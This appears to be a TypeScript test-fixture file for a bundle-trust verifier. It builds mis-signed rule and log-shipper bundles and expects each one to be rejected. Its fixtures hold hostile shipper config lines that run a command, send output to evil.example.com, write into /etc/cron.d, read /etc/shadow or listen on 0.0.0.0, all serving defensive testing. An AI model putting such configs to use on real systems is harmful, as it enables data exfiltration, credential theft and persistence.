import type { BuiltBundle, TargetRef } from "#trust";
import { bundleOf } from "./evil-keys.ts";
import { newVersion, target } from "./evil-moves.ts";
import type { Move } from "./evil-moves.ts";
import { execRule, good } from "./evil-world.ts";
import type { EvilWorld } from "./evil-world.ts";

/** A bundle under the digest and path of another one, which people listed by mistake or malice. */
async function listedAs(
  world: EvilWorld,
  bundle: BuiltBundle,
  change: Partial<TargetRef>,
): Promise<TargetRef> {
  const name = `listed-${newVersion().replaceAll(".", "-")}`;
  const kind = change.kind ?? bundle.target.kind;
  const entry = { ...bundle.target, path: `${kind}/${name}/1.0.0.json`, ...change };
  await world.release({ ...bundle, bundle: { ...bundle.bundle, name, version: "1.0.0" }, target: entry });
  return entry;
}

const outputTo = (lines: string) => `[OUTPUT]\n  Match *\n${lines}\n`;
const shipper = (more: string): BuiltBundle => bundleOf("shipper", "bad", newVersion(), more);
const bad = (bundle: () => BuiltBundle) => async (world: EvilWorld) => {
  const released = bundle();
  await world.release(released);
  return released.target;
};

/** T5: people signed what nobody should have signed. */
export const signedByMistake: readonly Move[] = [
  target(
    "T5",
    "rules that do not load",
    ["rules", "rules/invalid"],
    bad(() => bundleOf("rules", "bad", newVersion(), "- rule: half\n")),
  ),
  target(
    "T5",
    "rules for a newer engine",
    ["rules", "trust/engine-too-old"],
    bad(() => bundleOf("rules", "bad", newVersion(), execRule, { requires: { engine: ">=99.0.0" } })),
  ),
  target("T5", "a bundle of another organisation", ["rules", "trust/wrong-org"], (world) =>
    listedAs(world, bundleOf("rules", "foreign", "1.0.0", execRule, { org: "other" }), {}),
  ),
  target("T5", "a bundle under the path of another one", ["rules", "trust/not-listed"], (world) =>
    listedAs(world, bundleOf("rules", "hidden", "9.9.9", execRule), {}),
  ),
  target("T5", "a shipper config listed as rules", ["rules", "bundle/wrong-kind"], (world) =>
    listedAs(world, good.shipper, { kind: "rules" }),
  ),
  target(
    "T5",
    "a config that runs a program",
    ["shipper", "shipper/invalid"],
    bad(() => shipper("[INPUT]\n  Name exec\n  Command id\n")),
  ),
  target(
    "T5",
    "a config that loads a plugin",
    ["shipper", "shipper/invalid"],
    bad(() => shipper("[SERVICE]\n  plugins_file /tmp/evil.conf\n")),
  ),
  target(
    "T5",
    "a config that sends elsewhere",
    ["shipper", "shipper/not-allowed"],
    bad(() => shipper(outputTo("  Name http\n  Host evil.example.com\n  Format json"))),
  ),
  target(
    "T5",
    "a config that writes elsewhere",
    ["shipper", "shipper/not-allowed"],
    bad(() => shipper(outputTo("  Name file\n  Format plain\n  Path /etc/cron.d"))),
  ),
  target(
    "T5",
    "a config that reads elsewhere",
    ["shipper", "shipper/not-allowed"],
    bad(() => shipper("[INPUT]\n  Name tail\n  Path /etc/shadow\n")),
  ),
  target(
    "T5",
    "a config that listens",
    ["shipper", "shipper/not-allowed"],
    bad(() => shipper("[INPUT]\n  Name http\n  Listen 0.0.0.0\n")),
  ),
  target(
    "T5",
    "a config that shows its figures to everybody",
    ["shipper", "shipper/not-allowed"],
    bad(() => shipper("[SERVICE]\n  http_server on\n  http_listen 0.0.0.0\n")),
  ),
];
